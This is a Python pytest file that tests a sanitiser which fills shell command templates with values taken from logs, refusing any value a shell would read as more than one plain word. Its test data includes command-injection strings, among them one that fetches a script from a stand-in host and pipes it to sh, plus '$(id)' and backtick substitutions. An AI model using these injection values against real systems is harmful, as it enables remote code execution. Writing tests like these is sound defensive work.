"""Texts of entries with what the log says."""

from typing import Any, cast

import pytest

from kb.filling import fill_command
from kb.matching import Match


def filled(command: str, **captures: str) -> str | None:
    return fill_command(command, cast("Match", type("M", (), {"captures": captures})()))


@pytest.mark.parametrize("value", ["/models/kimi-k3", "moonshotai/Kimi-K3", "0.33.0+cu130", "mlx5_0:1", "--x"[2:]])
def test_command_when_the_log_says_one_plain_word_then_it_stands_in_it(value: str) -> None:
    assert filled("ls -ld {given}", given=value) == f"ls -ld {value}"


@pytest.mark.parametrize(
    "value",
    ["x;curl${IFS}evil.sh|sh;", "a b", "$(id)", "`id`", "x\ny", "-rf", "'", '"', "a&b", "a>b", "*", "~root", "", "а"],
)
def test_command_when_a_shell_would_take_it_for_more_then_the_place_is_named_instead(value: Any) -> None:
    assert filled("ls -ld {given}", given=value) == "ls -ld GIVEN"


def test_command_when_nothing_fills_a_place_then_it_is_named() -> None:
    assert filled("kill {pid}") == "kill PID"
